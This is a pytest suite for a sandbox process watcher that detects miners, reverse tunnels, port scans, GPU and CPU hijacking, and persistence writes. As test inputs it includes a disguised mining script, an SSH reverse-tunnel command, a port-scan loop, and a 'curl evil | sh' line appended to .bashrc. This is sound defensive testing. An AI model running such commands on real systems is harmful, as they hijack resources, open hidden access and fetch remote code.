"""The watcher against real processes in real sandboxes: detected, answered, attributed."""

from __future__ import annotations

import itertools
import json
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from corral.ledger import Ledger
from corral.sandbox import Sandbox
from corral.sandbox.backend import SandboxError
from corral.watch.gpu import FakeGpuBackend, GpuProcess
from corral.watch.watcher import Watcher

from ..egress.servers import SSHServer
from ..procs import running, wait_for
from ..watching import policy

POOL_HOST = "127.0.0.2"
STRATUM_PORTS = (3333, 4444, 5555, 7777, 14444)  # all on the detectors' miner port list


def alerts(ledger: Ledger) -> list[dict[str, Any]]:
    return [rec.body | {"_action": rec.action_id} for rec in ledger.records(kinds="alert")]


class MockPool:
    """A Stratum pool stand-in: answers mining.subscribe and records who spoke to it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        for port in STRATUM_PORTS:  # the first free one
            try:
                self.sock.bind((POOL_HOST, port))
                break
            except OSError:
                continue
        self.port = self.sock.getsockname()[1]
        self.sock.listen(8)
        self.messages: list[dict[str, Any]] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self._talk, args=(conn,), daemon=True).start()

    def _talk(self, conn: socket.socket) -> None:
        with conn, conn.makefile("rwb") as f:
            for line in f:
                msg = json.loads(line)
                self.messages.append(msg)
                reply = {"id": msg.get("id"), "result": [[], "08000002", 4], "error": None}
                f.write(json.dumps(reply).encode() + b"\n")
                f.flush()

    def close(self) -> None:
        self.sock.close()


MINER = """
import hashlib, json, socket
# A "data sync" that is really a miner: it dials its pool through the proxy and hashes.
s = socket.create_connection(("127.0.0.1", 3128))
s.sendall(b"CONNECT %s:%d HTTP/1.1\\r\\n\\r\\n" % (b"POOL_HOST", POOL_PORT))
s.recv(1024)
s.sendall(json.dumps({"id": 1, "method": "mining.subscribe", "params": ["sync/1.0"]}).encode() + b"\\n")
s.recv(1024)
n = 0
while True:
    n += 1
    hashlib.sha256(n.to_bytes(8, "little")).digest()
"""


def test_a_miner_under_an_innocent_name_is_detected_and_killed(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    pool = MockPool()
    try:
        (tmp_path / "sync_data.py").write_text(
            MINER.replace("POOL_HOST", POOL_HOST).replace("POOL_PORT", str(pool.port))
        )
        p = policy(f"{POOL_HOST}:{pool.port}")
        with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
            r = sb.run("python3 sync_data.py", timeout=30)
            assert r.exit_code != 0
            assert any(a.category.value == "mining" for a in r.alerts), r
            with pytest.raises(SandboxError, match="stopped"):
                sb.run("echo still here")
        assert running("sync_data.py") == []
    finally:
        pool.close()
    (alert,) = [a for a in alerts(ledger) if a["category"] == "mining"][:1]
    assert alert["_action"] == r.action_id
    assert alert["evidence"], alert


def test_a_cpu_burner_left_behind_is_flagged_with_the_action_that_started_it(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        first = sb.run("echo setting up")
        r = sb.run("nohup python3 -c 'while True: pass' > /dev/null 2>&1 & echo started")
        assert r.stdout == "started\n"
        hijack = wait_for(
            lambda: [a for a in alerts(ledger) if a["detector"] == "resource-hijack-cpu"]
        )
        assert hijack, alerts(ledger)
        assert hijack[0]["_action"] == r.action_id != first.action_id
        assert wait_for(lambda: not running("while True: pass"))
        assert sb.run("echo alive").stdout == "alive\n"  # only the process was killed


def test_a_tight_cpu_quota_does_not_hide_a_burner(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    # Capped at a fifth of a core, the loop never uses 0.8 of one: judged by the share
    # of its sandbox's quota that it takes, it is still caught.
    p = policy(resources={"cpus": 0.2})
    with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        r = sb.run("nohup python3 -c 'while True: pass' > /dev/null 2>&1 & echo started")
        hijack = wait_for(
            lambda: [a for a in alerts(ledger) if a["detector"] == "resource-hijack-cpu"]
        )
        assert hijack and hijack[0]["_action"] == r.action_id, alerts(ledger)
        samples = [e for e in hijack[0]["evidence"] if e["kind"] == "resource"]
        assert samples and all(e["fields"]["cpu"] < 0.5 for e in samples)
        assert all(e["fields"]["cpu_share"] > 0.8 for e in samples)
        assert wait_for(lambda: not running("while True: pass"))


def test_a_foreground_build_using_cpu_is_not_a_hijack(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        r = sb.run("timeout 4 python3 -c 'while True: pass'; echo done", timeout=30)
    assert r.stdout == "done\n"
    assert not [a for a in alerts(ledger) if a["detector"] == "resource-hijack-cpu"]


def test_a_reverse_tunnel_with_openssh_is_a_tunnel_alert_on_its_action(
    tmp_path: Path, ledger: Ledger, watcher: Watcher, sshd_server: SSHServer
) -> None:
    key = tmp_path / "key"
    shutil.copy(sshd_server.client_key, key)
    key.chmod(0o600)
    # The tunnel would work: the proxy allows this sshd. The watcher is what stops it.
    p = policy(f"{sshd_server.host}:{sshd_server.port}")
    with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        sb.run("echo before")
        r = sb.run(
            f"ssh -i key -p {sshd_server.port} -o BatchMode=yes -o StrictHostKeyChecking=no"
            " -o UserKnownHostsFile=/dev/null -o ProxyCommand='nc -X 5 -x 127.0.0.1:1080 %h %p'"
            f" -N -R 9999:127.0.0.1:22 {sshd_server.user}@{sshd_server.host}",
            timeout=30,
        )
    assert r.exit_code != 0 and not r.timed_out
    tunnel = [a for a in alerts(ledger) if a["category"] == "tunnel"]
    assert tunnel and tunnel[0]["_action"] == r.action_id
    assert tunnel[0]["detector"] == "tunnel-ssh-forward"


def test_a_loop_over_50_ports_is_recon(tmp_path: Path, ledger: Ledger, watcher: Watcher) -> None:
    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        r = sb.run(
            "for p in $(seq 1 50); do curl -s -m 2 -o /dev/null http://10.9.9.9:$p/; done; echo ok",
            timeout=60,
        )
        sb.watcher.sync()  # type: ignore[union-attr]
    assert r.stdout == "ok\n"
    recon = wait_for(lambda: [a for a in alerts(ledger) if a["category"] == "recon"])
    assert recon and recon[0]["_action"] == r.action_id


def test_a_gpu_hijack_is_caught_through_the_fake_nvml(tmp_path: Path, ledger: Ledger) -> None:
    gpu = FakeGpuBackend()
    w = Watcher(gpu=gpu)
    try:
        with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=w) as sb:
            r = sb.run("sleep 1000.375 & echo started")
            pid = wait_for(lambda: running("sleep 1000.375"))[0]
            gpu.set([GpuProcess(pid=pid, gpu=0, memory=8 << 30, util=97.0)])
            hijack = wait_for(lambda: [a for a in alerts(ledger) if a["detector"] == "gpu-hijack"])
            assert hijack and hijack[0]["_action"] == r.action_id
            assert wait_for(lambda: not running("sleep 1000.375"))
    finally:
        w.close()


def test_a_granted_gpu_kept_busy_after_its_action_is_a_hijack(
    tmp_path: Path, ledger: Ledger
) -> None:
    gpu = FakeGpuBackend()
    w = Watcher(gpu=gpu)
    gpu_policy = policy(resources={"gpus": 1})
    try:
        with Sandbox(gpu_policy, tmp_path, gate=False, ledger=ledger, watch=w) as sb:
            # Training in its own step: the GPU busy while the action runs is the workload.
            done: list[Any] = []
            step = threading.Thread(target=lambda: done.append(sb.run("sleep 4.125; echo ok")))
            step.start()
            pid = wait_for(lambda: running("sleep 4.125"))[0]
            gpu.set([GpuProcess(pid=pid, gpu=0, memory=8 << 30, util=97.0)])
            step.join()
            assert done[0].stdout == "ok\n"
            assert not [a for a in alerts(ledger) if a["category"] == "mining"]
            # A kernel left spinning in the background after its command returned.
            r = sb.run("sleep 1000.125 & echo started")
            pid = wait_for(lambda: running("sleep 1000.125"))[0]
            gpu.set([GpuProcess(pid=pid, gpu=0, memory=8 << 30, util=97.0)])
            hijack = wait_for(
                lambda: [a for a in alerts(ledger) if a["detector"] == "resource-hijack-gpu"]
            )
            assert hijack and hijack[0]["_action"] == r.action_id
            assert wait_for(lambda: not running("sleep 1000.125"))
            assert not sb.stopped  # the process went, not the sandbox
            assert not [a for a in alerts(ledger) if a["detector"] == "gpu-hijack"]
    finally:
        w.close()


def test_a_gpu_process_from_another_pid_namespace_is_put_down_to_its_gpu(
    tmp_path: Path, ledger: Ledger
) -> None:
    # corral in a container without the host's pid namespace: NVML names host pids that
    # no /proc here has. The GPU is this sandbox's alone, so the process is too; it
    # cannot be picked out, so the sandbox is stopped.
    gpu = FakeGpuBackend(devices=2)
    w = Watcher(gpu=gpu)
    foreign = 99_999_999  # above any pid_max: no process here has it
    (tmp_path / "other").mkdir()
    try:
        with (
            Sandbox(
                policy(resources={"gpus": 1}), tmp_path, gate=False, ledger=ledger, watch=w
            ) as sb,
            Sandbox(policy(), tmp_path / "other", gate=False, ledger=ledger, watch=w) as other,
        ):
            r = sb.run("echo launched")
            gpu.set(
                [
                    GpuProcess(pid=foreign, gpu=0, memory=1 << 30, util=99.0),
                    GpuProcess(pid=foreign + 1, gpu=1, memory=1 << 30, util=99.0),  # nobody's
                ]
            )
            hijack = wait_for(
                lambda: [a for a in alerts(ledger) if a["detector"] == "resource-hijack-gpu"]
            )
            assert hijack and hijack[0]["_action"] == r.action_id
            assert hijack[0]["evidence"][0]["fields"]["pid_foreign"] is True
            assert wait_for(lambda: sb.stopped)
            assert len(alerts(ledger)) == 1  # GPU 1 is no sandbox's: nothing said of it
            assert not other.stopped
    finally:
        w.close()


def test_a_background_burner_spends_the_episode_cpu_budget_and_ends_it(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    p = policy(resources={"episode": {"cpu_seconds": 1.5}})
    with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        r = sb.run("nohup python3 -c 'while True: pass' > /dev/null 2>&1 & echo started")
        assert r.stdout == "started\n" and not r.episode_ended
        # Nothing runs in the foreground: the watcher holds the budget between commands.
        assert wait_for(lambda: sb.episode_ended, timeout=15)
        assert "resources.episode.cpu_seconds" in (sb.episode_ended or "")
        assert wait_for(lambda: not running("while True: pass"))
        with pytest.raises(SandboxError, match="CPU budget"):
            sb.run("echo more")
    notes = [rec.body for rec in ledger.records(kinds="note")]
    assert any(n.get("event") == "episode ended" for n in notes)


def test_the_cpu_budget_holds_with_the_watcher_off(tmp_path: Path, ledger: Ledger) -> None:
    p = policy(resources={"episode": {"cpu_seconds": 0.5}})
    with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=False) as sb:
        assert not sb.run("echo cheap").episode_ended
        r = sb.run("timeout 2 python3 -c 'while True: pass'; echo spent")
        assert r.episode_ended and sb.episode_ended
        with pytest.raises(SandboxError, match="CPU budget"):
            sb.run("echo more")


def test_a_policy_can_end_the_episode_instead(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    p = policy(detectors={"tunnel-tool": {"response": "end-episode"}})
    shutil.copy("/bin/sleep", tmp_path / "ngrok")  # a binary by that name: what is run
    with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        r = sb.run("./ngrok 30", timeout=30)
        assert r.episode_ended and sb.episode_ended
        with pytest.raises(SandboxError, match="episode"):
            sb.run("echo more")


def test_kill_9_of_corral_keeps_the_ledger_and_leaves_nothing_running(tmp_path: Path) -> None:
    home = tmp_path / "home"
    ws = tmp_path / "ws"
    ws.mkdir()
    env = {"CORRAL_HOME": str(home), "PATH": "/usr/bin:/bin"}
    proc = subprocess.Popen(
        [
            sys.executable,
            "-m",
            "corral",
            "run",
            "--workspace",
            str(ws),
            "--no-gate",
            "--",
            "sh",
            "-c",
            "echo started; sleep 1000.625",
        ],
        stdout=subprocess.PIPE,
        env=env,
    )
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == b"started"
    assert wait_for(lambda: running("sleep 1000.625"))

    def recorded() -> bool:
        # Read as another process would; the watcher scans at 4 Hz where the kernel's
        # exec events are out of reach (a container), so give it a moment.
        if not (home / "ledger.db").exists():
            return False
        with Ledger.open(home / "ledger.db", create=False) as led:
            return any(
                "1000.625" in " ".join(rec.body.get("fields", {}).get("argv") or [])
                for rec in led.records(kinds="event")
            )

    assert wait_for(recorded)
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait()
    proc.stdout.close()
    assert wait_for(lambda: not running("sleep 1000.625"), timeout=5)
    verify = subprocess.run(
        [sys.executable, "-m", "corral", "verify"], env=env, capture_output=True, text=True
    )
    assert verify.returncode == 0, verify.stdout + verify.stderr
    log = subprocess.run(
        [sys.executable, "-m", "corral", "log"], env=env, capture_output=True, text=True
    ).stdout
    assert "sandbox created" in log and "sleep 1000.625" in log  # the exec, seen and kept


def test_only_a_network_socket_on_stdio_counts_as_a_reverse_shell() -> None:
    from corral.watch.watcher import _stdio_sockets

    a, b = socket.socketpair()  # how many harnesses wire a tool's stdio
    listener = socket.create_server(("127.0.0.1", 0))
    tcp = socket.create_connection(listener.getsockname())
    procs = [subprocess.Popen(["sleep", "5"], stdin=s.fileno()) for s in (a, tcp)]
    try:
        assert wait_for(lambda: all(Path(f"/proc/{p.pid}/exe").exists() for p in procs))
        time.sleep(0.05)
        assert _stdio_sockets(procs[0].pid) is False
        assert _stdio_sockets(procs[1].pid) is True
    finally:
        for p in procs:
            p.kill()
            p.wait()
        for s in (a, b, listener, tcp):
            s.close()


def test_freeze_stops_every_process_where_it_is(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    p = policy(detectors={"tunnel-tool": {"response": "freeze"}})
    shutil.copy("/bin/sleep", tmp_path / "chisel")
    with Sandbox(p, tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        sb.run("sleep 1000.875 &")
        t0 = time.monotonic()
        r = sb.run("./chisel 1000.5; echo after", timeout=60)  # frozen mid-command
        assert time.monotonic() - t0 < 10 and r.exit_code == 137 and "after" not in r.stdout
        frozen = wait_for(lambda: [a for a in alerts(ledger) if a["detector"] == "tunnel-tool"])
        assert frozen and "froze" in frozen[0]["response"]

        def states() -> set[str]:
            out = set()
            for pid in running("1000.875") + running("chisel 1000.5"):
                out.add(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0])
            return out

        assert wait_for(lambda: states() == {"T"})  # stopped, kept for inspection
        with pytest.raises(SandboxError, match="frozen"):
            sb.run("echo more")
    assert wait_for(lambda: not running("1000.875") and not running("chisel 1000.5"))


def test_the_watcher_samples_each_sandbox_several_times_a_second(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        sb.run("sleep 30 &")
        before = watcher.ticks
        assert wait_for(lambda: watcher.ticks >= before + 9)
        # ≥ 4 Hz: ticks are scheduled a quarter second apart, however long each takes.
        starts = list(watcher.tick_starts)[-9:]
        gaps = sorted(b - a for a, b in itertools.pairwise(starts))
        assert gaps[len(gaps) // 2] <= watcher.interval * 1.05, gaps
        got = watcher.latest(sb.id)
        assert got is not None and got["pids"] >= 3  # init, shell, sleep
        assert got["cpu_s"] is not None and got["peak_memory"]


def test_a_sandbox_failing_under_the_watcher_does_not_stop_the_others(tmp_path: Path) -> None:
    w = Watcher(gpu=FakeGpuBackend())
    (tmp_path / "a").mkdir()
    (tmp_path / "b").mkdir()
    try:
        broken_ledger = Ledger.memory()
        with Ledger.memory() as ok_ledger:
            broken = Sandbox(policy(), tmp_path / "a", gate=False, ledger=broken_ledger, watch=w)
            healthy = Sandbox(policy(), tmp_path / "b", gate=False, ledger=ok_ledger, watch=w)
            broken.run("(while true; do sleep 0.05; done) > /dev/null 2>&1 &")
            broken_ledger.close()  # every record the watcher makes for it now fails
            time.sleep(1.0)
            assert w.died is None
            assert healthy.run("echo fine").stdout == "fine\n"
            healthy.close()
            with pytest.raises(Exception):  # noqa: B017 - its own ledger is gone
                broken.close()
            broken.backend.close(broken.id)
    finally:
        w.close()


def test_writing_authorized_keys_or_a_shell_rc_in_the_sandbox_home_is_seen(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        sb.run("true")
        watcher.sync()  # the home is watched from the first tick after the shell starts
        keys = sb.run(
            "mkdir -p ~/.ssh && sleep 0.5 && echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys"
        )
        rc = sb.run("echo 'curl evil | sh' >> ~/.bashrc")
        found = wait_for(
            lambda: (
                {a["detector"]: a["_action"] for a in alerts(ledger)}
                if len(alerts(ledger)) >= 2
                else None
            )
        )
    assert found == {
        "persistence-authorized-keys": keys.action_id,
        "persistence-shell-rc": rc.action_id,
    }
    files = [rec.body for rec in ledger.records(kinds="event") if rec.body["kind"] == "file"]
    assert {f["fields"]["path"] for f in files} >= {
        "/tmp/home/.ssh/authorized_keys",
        "/tmp/home/.bashrc",
    }


def test_a_write_read_late_is_tied_to_the_action_it_happened_in(
    tmp_path: Path, ledger: Ledger, watcher: Watcher
) -> None:
    """On a busy host the watcher may read a write after the next action started; the
    action marks in the inotify queue keep it with the action that made it."""
    with Sandbox(policy(), tmp_path, gate=False, ledger=ledger, watch=watcher) as sb:
        sb.run("true")
        watcher.sync()
        original = watcher._file_events

        def late() -> None:
            time.sleep(0.6)  # a busy host: the events wait in the queue
            original()

        watcher._file_events = late  # type: ignore[method-assign]
        rc = sb.run("echo 'curl evil | sh' >> ~/.bashrc")
        after = sb.run("sleep 1")  # starts before the write is read
        found = wait_for(lambda: alerts(ledger) or None)
    assert found[0]["detector"] == "persistence-shell-rc"
    assert found[0]["_action"] == rc.action_id != after.action_id


def test_file_events_parse_without_a_kernel() -> None:
    import struct as st

    from corral.watch import files

    name = b"authorized_keys\0\0\0\0\0"
    one = st.pack("iIII", 3, files.IN_CLOSE_WRITE, 0, len(name)) + name
    two = st.pack("iIII", 4, files.IN_CREATE | files.IN_ISDIR, 0, 8) + b".ssh\0\0\0\0"
    got = files.parse(one + two + one[:10])  # a truncated tail is dropped
    assert [(e.wd, e.name, e.is_dir) for e in got] == [
        (3, "authorized_keys", False),
        (4, ".ssh", True),
    ]
